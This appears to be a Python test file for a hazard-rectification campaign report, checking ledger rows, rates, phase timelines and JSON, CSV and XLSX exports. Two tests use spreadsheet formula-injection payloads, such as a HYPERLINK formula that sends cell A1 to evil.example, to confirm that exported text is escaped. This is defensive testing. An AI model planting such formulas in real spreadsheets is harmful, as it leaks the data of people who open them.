"""The campaign report: timeline, ledger, rates, escalations; as JSON, CSV (with BOM) and XLSX, one row per unit."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.support.actions import OPERATOR
from tests.support.scenarios import Scenario
from tests.support.texts import ASSESSED_RAILWAY
from workflow.errors import NotFound
from workflow.views.report import UNIT_COLUMNS, build_report
from workflow.views.report_files import report_csv, report_xlsx

# per unit: tasks, done, rectifications, closed, 整改率, 按期整改率, 逾期未整改数, escalations (levels ≥ 1)
EXPECTED_UNITS = {
    # fixed after an extension: late against the original deadline
    "east": (
        1,
        1,
        1,
        1,
        100.0,
        0.0,
        0,
        0,
    ),
    "west": (1, 1, 1, 0, 0.0, 0.0, 1, 1),  # overdue and escalated to level 1
    "north": (1, 1, 1, 1, 100.0, 100.0, 0, 0),
}
NUMBERS = (
    "tasks",
    "tasks_done",
    "rectifications",
    "rectifications_closed",
    "rectification_rate",
    "on_time_rate",
    "overdue_open",
    "escalations",
)


@pytest.fixture
def scenario(scenario):
    """Three hazards: north fixed on time, east fixed after an extension, west left overdue; one sweep."""
    return scenario.hazard_month()


def report_of(scenario, by=OPERATOR):
    with scenario.sessions() as session:
        return build_report(session, scenario.campaign, by=by, clock=scenario.clock)


def test_the_ledger_has_one_row_per_hazard_and_keeps_the_original_deadline(scenario):
    ledger = {row["unit"]: row for row in report_of(scenario).ledger}
    assert set(ledger) == {"东村", "西村", "北村"}
    east = ledger["东村"]
    assert (east["original_deadline"], east["deadline"], east["extensions"]) == (
        date(2026, 5, 20),
        date(2026, 5, 29),
        1,
    )
    assert (east["registered_on"], east["found_by"], east["responsible"]) == (
        date(2026, 5, 6),
        "赵主任",
        "李村长",
    )
    assert (east["state"], east["check_result"], east["closed_on"], east["days_to_close"]) == (
        "closed",
        "验收合格 accepted",
        date(2026, 5, 25),
        19,
    )
    west = ledger["西村"]
    assert (west["state"], west["check_result"], west["closed_on"], west["days_overdue"]) == (
        "open",
        "逾期未整改 overdue",
        None,
        12,
    )


def test_the_rates_ageing_and_escalations_are_the_ones_coordinators_quote(scenario):
    report = report_of(scenario)
    assert report.rectifications == {
        "total": 3,
        "open": 1,
        "submitted": 0,
        "closed": 2,
        "rectification_rate": 66.7,  # 整改率: 2 of 3 closed
        "on_time_rate": 33.3,  # 按期整改率: only north was fixed by its original deadline
        "overdue_open": 1,  # 逾期未整改数
        "ageing": {"0–7": 0, "8–30": 1, "31–90": 0, "90+": 0},
        "mean_days_to_close": 12.5,
        "p90_days_to_close": 19,
    }
    assert report.escalations == [
        {"level": 0, "colour": "blue", "item_kind": "rectification", "count": 1},
        {"level": 1, "colour": "yellow", "item_kind": "rectification", "count": 1},
    ]
    units = {row["code"]: tuple(row[key] for key in NUMBERS) for row in report.units}
    assert units == EXPECTED_UNITS
    on_time = {
        row["unit"]: row["status"] for row in report.targets if row["target"] == "rectified-on-time"
    }
    assert on_time == {"east": "missed", "west": "missed", "north": "met"}
    assert (
        json.loads(json.dumps(report.to_dict()))["ledger"][0]["original_deadline"] == "2026-05-20"
    )


def test_the_timeline_sets_each_phase_planned_against_actual(scenario):
    # implementation's last day was 2 July (stored exclusive as 3 July): 8 days late on 10 July
    scenario.at(2026, 7, 10, 9).advance()
    phases = {row["phase"]: row for row in report_of(scenario).phases}
    assert {
        key: phases["implementation"][key]
        for key in (
            "planned_last_day",
            "ended_on",
            "status",
            "days_late",
            "tasks",
            "tasks_done",
            "completion",
        )
    } == {
        "planned_last_day": date(2026, 7, 2),
        "ended_on": date(2026, 7, 10),
        "status": "done",
        "days_late": 8,
        "tasks": 3,
        "tasks_done": 3,
        "completion": 100.0,
    }
    assert (phases["inspection"]["status"], phases["inspection"]["started_on"]) == (
        "current",
        date(2026, 7, 10),
    )
    assert phases["summary"]["status"] == "pending"


def test_the_csv_has_a_bom_and_one_row_per_unit_with_the_right_numbers(scenario):
    content = report_csv(report_of(scenario))
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["单位代码 code", "单位 unit"] and len(header) == len(UNIT_COLUMNS)
    assert len(body) == 3
    at = {key: UNIT_COLUMNS.index(key) for key in NUMBERS}
    found = {row[0]: tuple(row[at[key]] for key in NUMBERS) for row in body}
    assert found == {
        code: tuple(str(value) for value in numbers) for code, numbers in EXPECTED_UNITS.items()
    }
    assert {row[0]: row[1] for row in body} == {"east": "东村", "west": "西村", "north": "北村"}
    ledger = list(
        csv.reader(io.StringIO(report_csv(report_of(scenario), "ledger").decode("utf-8-sig")))
    )
    assert len(ledger) == 1 + 3


def test_the_xlsx_has_a_sheet_per_table_and_one_row_per_unit(scenario):
    book = load_workbook(io.BytesIO(report_xlsx(report_of(scenario))))
    assert book.sheetnames == [
        "单位 units",
        "阶段 phases",
        "隐患台账 ledger",
        "整改统计 rates",
        "督办 escalations",
        "目标 targets",
        "考核 assessment",
        "表彰 commended",
        "通报批评 criticised",
        "责任书 letters",
    ]
    rows = list(book["单位 units"].iter_rows(values_only=True))
    assert len(rows) == 1 + 3
    at = {key: UNIT_COLUMNS.index(key) for key in NUMBERS}
    assert {row[0]: tuple(row[at[key]] for key in NUMBERS) for row in rows[1:]} == EXPECTED_UNITS
    ledger = list(book["隐患台账 ledger"].iter_rows(values_only=True))
    assert len(ledger) == 1 + 3
    assert {row[1]: row[9].date() for row in ledger[1:]}["东村"] == date(2026, 5, 20), (
        "original deadline, a date"
    )
    assessed = list(book["考核 assessment"].iter_rows(values_only=True))
    assert assessed[0][3] == "会议必须强调 (40)" and len(assessed) == 1 + 3


def test_text_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(scenario):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    scenario.hazard("north", date(2026, 6, 10), formula)
    report = report_of(scenario)
    ledger = list(csv.reader(io.StringIO(report_csv(report, "ledger").decode("utf-8-sig"))))
    column = ledger[0].index("隐患 hazard")
    assert "'" + formula in [row[column] for row in ledger[1:]], "Excel reads a leading ' as text"
    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["隐患台账 ledger"]
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    typed = [cell for cell in cells if cell.value == formula]
    assert typed and typed[0].data_type == "s", "the description is a string cell, not a formula"


def test_a_definition_s_item_title_that_looks_like_a_formula_heads_its_column_as_text(
    sessions, calendar
):
    formula = '=HYPERLINK("http://evil.example/","会议")'
    scenario = Scenario(
        sessions,
        calendar,
        ASSESSED_RAILWAY.replace("title: 会议必须强调,", f"title: '{formula}',"),
    )
    report = report_of(scenario)
    header = next(csv.reader(io.StringIO(report_csv(report, "assessment").decode("utf-8-sig"))))
    assert "'" + formula + " (40)" in header, "Excel reads a leading ' as text"
    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["考核 assessment"]
    heads = [cell for cell in next(sheet.iter_rows(max_row=1)) if cell.value == formula + " (40)"]
    assert heads and heads[0].data_type == "s", "the column's title is a string cell"


def test_the_report_is_for_the_leading_group_only(scenario):
    assert (
        report_of(scenario, scenario.actor("leader@example.org")).campaign["id"]
        == scenario.campaign
    )
    with pytest.raises(NotFound):
        report_of(scenario, scenario.actor("east@example.org"))


def test_pingan_report_writes_json_csv_and_xlsx(scenario, pingan, tmp_path):
    import webapp.cli.reports  # noqa: F401 - registers the commands on the `pingan` group

    now = "2026-05-27T10:00"
    printed = pingan("report", str(scenario.campaign), now=now)
    assert (
        printed.exit_code == 0 and json.loads(printed.stdout)["rectifications"]["overdue_open"] == 1
    )
    target = tmp_path / "report.csv"
    written = pingan(
        "report", str(scenario.campaign), "--format", "csv", "--output", str(target), now=now
    )
    assert written.exit_code == 0 and target.read_bytes().startswith("\ufeff".encode())
    assert len(target.read_text("utf-8-sig").strip().splitlines()) == 1 + 3
    refused = pingan("report", str(scenario.campaign), "--format", "xlsx", now=now)
    assert refused.exit_code == 1 and refused.stderr == "error: --format xlsx needs --output FILE\n"
    book = tmp_path / "report.xlsx"
    assert (
        pingan(
            "report", str(scenario.campaign), "--format", "xlsx", "--output", str(book), now=now
        ).exit_code
        == 0
    )
    assert load_workbook(book).sheetnames[0] == "单位 units"
    results = tmp_path / "results.xlsx"
    sent = pingan(
        "report", str(scenario.campaign), "--format", "xlsx", "--table", "results",
        "--output", str(results), now=now,
    )  # fmt: skip
    assert sent.exit_code == 0
    sheet = load_workbook(results)["考核结果"]
    assert sheet["A1"].value == "平安铁路创建活动考核结果报送表"
    assert [sheet.cell(row, 2).value for row in (4, 5, 6)] == ["东村", "北村", "西村"]
